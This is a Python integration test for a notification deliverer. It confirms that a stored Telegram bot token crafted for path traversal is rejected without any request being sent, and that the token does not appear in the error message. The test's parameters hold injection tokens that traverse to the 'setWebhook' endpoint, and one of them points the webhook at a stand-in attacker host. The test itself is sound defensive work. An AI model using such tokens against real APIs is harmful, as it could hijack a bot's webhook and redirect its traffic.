"""A Telegram channel stored before (or around) the credential checks, with a token that
would steer the request to another path of the API host, is never sent: the delivery fails
for good, without a request and without the token in the row."""

from __future__ import annotations

import pytest

from models.db import Database
from models.repositories import ChannelRepository
from settings import Settings
from tasks.notify.deliver import Deliverer
from tasks.notify.outbox import redis_client as make_redis
from tests.integration.alerts.support import add_user
from tests.integration.notify.receiver import Receiver
from tests.integration.notify.support import outbox_row, row

pytestmark = pytest.mark.integration


@pytest.mark.parametrize(
    "token",
    ["123:AAAAAAAAAAAAAAAAAAAA/../../setWebhook?url=http://evil.example/x#",
     "123:AAAAAAAAAAAAAAAAAAAA%2F..%2FsetWebhook", "../setWebhook"],
)  # fmt: skip
def test_a_stored_token_that_is_not_a_bot_token_is_never_sent(
    alert_settings: Settings, pg_database: Database, receiver: Receiver, token: str
) -> None:
    # Given a Telegram channel written straight to the table (no CLI checks) with such a token
    user_id = add_user(pg_database)
    with pg_database.session() as s:
        channel_id = ChannelRepository(s).create(user_id, "telegram", "42", secret=token).id
    notification_id = outbox_row(pg_database, alert_settings, user_id, channel_id)

    # When its notification is delivered
    deliverer = Deliverer(alert_settings, pg_database, make_redis(alert_settings))
    try:
        step = deliverer.attempt(notification_id)
    finally:
        deliverer.close()

    # Then no request reached the API host, the row failed for good, and says why without it
    assert receiver.received() == []
    assert step.action == "failed"
    stored = row(pg_database, notification_id)
    assert stored.status == "failed" and stored.attempts == 1
    assert "telegram bot token is malformed" in (stored.last_error or "")
    assert token not in (stored.last_error or "")
